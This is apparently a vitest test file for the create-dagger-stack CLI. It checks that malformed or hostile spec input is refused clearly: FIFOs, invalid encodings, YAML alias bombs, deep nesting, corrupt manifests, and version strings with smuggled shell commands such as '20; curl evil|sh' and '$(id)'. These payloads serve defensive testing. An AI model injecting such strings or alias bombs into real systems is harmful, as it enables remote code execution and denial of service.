import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { loadStack } from "../../../src/spec/load.js";
import { MAX_EXPANDED_VALUES, parseSpecText, readSpecFile } from "../../../src/spec/read.js";
import { invalidUtf8At, MAX_SPEC_BYTES } from "../../../src/spec/spec-file.js";
import { problemAt, problemsOf, service, spec } from "../../support/builders.js";
import { usageProblems } from "../../support/usage-error.js";
import { readTree, runMain, TempFolders } from "./support/run-main.js";

/**
 * Issue 11, points 11 and 12: broken or hostile input is a clear error (exit 2, the file or spec path, a
 * hint), never "a bug in create-dagger-stack", and never a run that blocks, eats gigabytes or silently
 * changes what the user wrote.
 */
const folders = new TempFolders();
afterEach(() => folders.cleanup());

const MINIMAL = "name: demo\nservices:\n  - { name: cache, kind: redis }\n";

async function readProblems(path: string, label = "stack.yaml") {
  try {
    await readSpecFile(path, label);
  } catch (error) {
    return usageProblems(() => {
      throw error;
    });
  }
  throw new Error("the spec was read");
}

function specFile(content: string | Uint8Array, name = "stack.yaml"): string {
  const path = join(folders.fresh(), name);
  writeFileSync(path, content);
  return path;
}

describe("what --spec reads", () => {
  it("a FIFO is refused at once instead of blocking forever", { timeout: 10_000 }, async () => {
    const path = join(folders.fresh(), "fifo");
    execFileSync("mkfifo", [path]);
    const [problem] = await readProblems(path, "fifo");
    expect(problem).toMatchObject({ path: "fifo", message: "is a named pipe (FIFO), not a regular file" });
  });

  it("a device is refused", async () => {
    expect((await readProblems("/dev/zero", "/dev/zero"))[0]?.message).toBe(
      "is a device, not a regular file",
    );
  });

  it("a spec over the cap is refused before it is read, with its size and the cap", async () => {
    const path = specFile(`${MINIMAL}# ${"x".repeat(MAX_SPEC_BYTES)}\n`);
    const [problem] = await readProblems(path);
    expect(problem?.message).toBe("is 1,025 KB; a spec may be at most 1,024 KB");
  });

  it("a symbolic link loop is named as one", async () => {
    const dir = folders.fresh();
    execFileSync("ln", ["-s", "loop.yaml", join(dir, "loop.yaml")]);
    expect((await readProblems(join(dir, "loop.yaml")))[0]?.message).toMatch(/leads back to itself/);
  });
});

describe("encodings", () => {
  const latin1 = Buffer.from("name: café\nservices: []\n", "latin1");

  it("invalid UTF-8 is an error naming the byte, its offset and line, never replaced with �", async () => {
    const [problem] = await readProblems(specFile(latin1));
    expect(problem?.message).toBe("is not UTF-8: byte 0xE9 at offset 9 (line 1)");
    expect(problem?.hint).toMatch(/save the file as UTF-8/);
  });

  it.each([
    ["a truncated sequence at the end", [0x61, 0xc3], 1],
    ["an overlong /", [0x61, 0xc0, 0xaf], 1],
    ["a surrogate", [0x61, 0x62, 0xed, 0xa0, 0x80], 2],
    ["a code point over U+10FFFF", [0xf4, 0x90, 0x80, 0x80], 0],
    ["a stray continuation byte", [0x61, 0x80], 1],
  ])("finds %s", (_, bytes, offset) => {
    expect(invalidUtf8At(Uint8Array.from(bytes))).toBe(offset);
  });

  it("agrees with a strict decoder on any bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 24 }), (bytes) => {
        let valid = true;
        try {
          new TextDecoder("utf-8", { fatal: true }).decode(bytes);
        } catch {
          valid = false;
        }
        expect(invalidUtf8At(bytes) === undefined).toBe(valid);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ["UTF-8 with a BOM", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(MINIMAL)])],
    ["UTF-16LE with a BOM", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(MINIMAL, "utf16le")])],
    [
      "UTF-16BE with a BOM",
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(MINIMAL, "utf16le").swap16()]),
    ],
  ])("%s is decoded", async (_, bytes) => {
    expect(await readSpecFile(specFile(bytes), "stack.yaml")).toEqual(parseSpecText(MINIMAL, "stack.yaml"));
  });

  it("UTF-16 without a BOM, and UTF-32, are refused clearly", async () => {
    expect((await readProblems(specFile(Buffer.from(MINIMAL, "utf16le"))))[0]?.message).toMatch(
      /NUL byte at offset 1: is it UTF-16 without a byte-order mark\?/,
    );
    const utf32 = Buffer.from([0xff, 0xfe, 0x00, 0x00, 0x6e, 0x00, 0x00, 0x00]);
    expect((await readProblems(specFile(utf32)))[0]?.message).toBe("is UTF-32, which is not supported");
  });
});

describe("YAML aliases", () => {
  const services = (count: number) =>
    [
      "name: demo",
      "services:",
      "  - { name: s0, kind: custom, image: alpine, env: &e { LOG_LEVEL: info } }",
      ...Array.from(
        { length: count },
        (_, index) => `  - { name: s${index + 1}, kind: custom, image: alpine, env: *e }`,
      ),
    ].join("\n");

  it("an ordinary `env: *e` on 101 services works (yaml's default allows 100 aliases)", () => {
    const stack = loadStack(parseSpecText(services(101), "stack.yaml"));
    expect(stack.services).toHaveLength(102);
    expect(stack.services.at(-1)?.env).toEqual([{ name: "LOG_LEVEL", type: "literal", value: "info" }]);
  });

  it("an alias bomb is refused by what it expands to, quickly", () => {
    const levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"];
    for (let level = 1; level < 9; level++) {
      levels.push(`a${level}: &a${level} [${Array.from({ length: 10 }, () => `*a${level - 1}`).join(", ")}]`);
    }
    const started = Date.now();
    const [problem] = usageProblems(() => parseSpecText(`${levels.join("\n")}\nname: x\n`, "bomb.yaml"));
    expect(problem?.message).toBe(
      `holds more than ${MAX_EXPANDED_VALUES.toLocaleString("en-US")} values once its aliases (*name) are expanded`,
    );
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("an alias inside the node it refers to is refused, not followed forever", () => {
    const [problem] = usageProblems(() => parseSpecText("name: x\nservices: &s [ *s ]\n", "s.yaml"));
    expect(problem?.message).toMatch(/inside the node it refers to/);
  });

  it("nesting too deep to read is a syntax problem, not a crash", () => {
    const text = `name: x\nservices: ${"[".repeat(100_000)}${"]".repeat(100_000)}\n`;
    expect(usageProblems(() => parseSpecText(text, "s.yaml"))[0]?.message).toBe("nests too deeply to read");
  });
});

describe("runtime versions land in CI as written, so only versions are taken", () => {
  it.each(["20; curl evil|sh", "lts/*", "node", "20 ", "$(id)"])("nodeVersions: %j", (version) => {
    const problem = problemAt(spec([service("redis")], { nodeVersions: ["22", version] }), "nodeVersions[1]");
    expect(problem.message).toContain("is not a Node version");
  });

  it("pythonVersions: a list with no version, and a word", () => {
    expect(problemAt(spec([service("redis")], { pythonVersions: [] }), "pythonVersions").message).toBe(
      "lists no version",
    );
    expect(
      problemAt(spec([service("redis")], { pythonVersions: ["3.12\nx"] }), "pythonVersions[0]"),
    ).toBeDefined();
  });

  it("accepts version numbers", () => {
    expect(
      problemsOf(
        spec([service("redis")], {
          nodeVersions: ["20", "22.12", "22.12.0"],
          pythonVersions: ["3.11", "3.13"],
        }),
      ),
    ).toEqual([]);
  });
});

describe("the CLI on a broken project", () => {
  it("package.json with a comment: exit 2 naming the file and line, nothing written", async () => {
    const root = folders.fresh();
    writeFileSync(join(root, "package.json"), '{\n  // my project\n  "name": "x"\n}\n');
    const run = await runMain([".", "--services", "postgres", "--ci", "none", "--yes"], root);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("package.json:2:3: has a comment, which JSON does not allow");
    expect(run.stderr).not.toContain("a bug in create-dagger-stack");
    expect(Object.keys(readTree(root))).toEqual(["package.json"]);
  });

  it("a corrupt manifest is reported as corrupt by add and by create, not as missing", async () => {
    const root = folders.fresh();
    expect((await runMain([".", "--services", "redis", "--ci", "none", "--yes"], root)).code).toBe(0);
    writeFileSync(join(root, "dagger-stack.json"), '{"tool": {');
    const before = readTree(root);
    const add = await runMain(["add", "postgres", "--yes"], root);
    expect(add.code).toBe(2);
    expect(add.stderr).toContain(
      "is not valid JSON: it ends before its last value is complete (line 1, column 11)",
    );
    expect(add.stderr).toContain("git checkout -- dagger-stack.json");
    expect(add.stderr).not.toContain("not found");
    // create would replace it: a conflict, which only --force (or the user's answer) overrides.
    const create = await runMain([".", "--services", "redis", "--ci", "none", "--yes"], root);
    expect(create.code).toBe(1);
    expect(create.stderr).toMatch(/dagger-stack\.json: .*damaged/);
    expect(readTree(root)).toEqual(before);
  });

  it("--interactive without a terminal: exit 2 saying stdin is not one, instead of 130 cancelled", async () => {
    const root = folders.fresh();
    const run = await runMain(["app", "--interactive", "--services", "postgres"], root);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("--interactive: stdin is not a terminal");
    expect(existsSync(join(root, "app"))).toBe(false);
  });

  it("a spec with 101 `env: *e` creates the stack", async () => {
    const root = folders.fresh();
    mkdirSync(join(root, "specs"));
    const lines = [
      "name: demo",
      "services:",
      "  - { name: s0, kind: custom, image: alpine, env: &e { A: b } }",
    ];
    for (let index = 1; index <= 101; index++)
      lines.push(`  - { name: s${index}, kind: custom, image: alpine, env: *e }`);
    writeFileSync(join(root, "specs", "stack.yaml"), lines.join("\n"));
    const run = await runMain(
      ["app", "--spec", "specs/stack.yaml", "--ci", "none", "--yes", "--dry-run"],
      root,
    );
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
  });
});
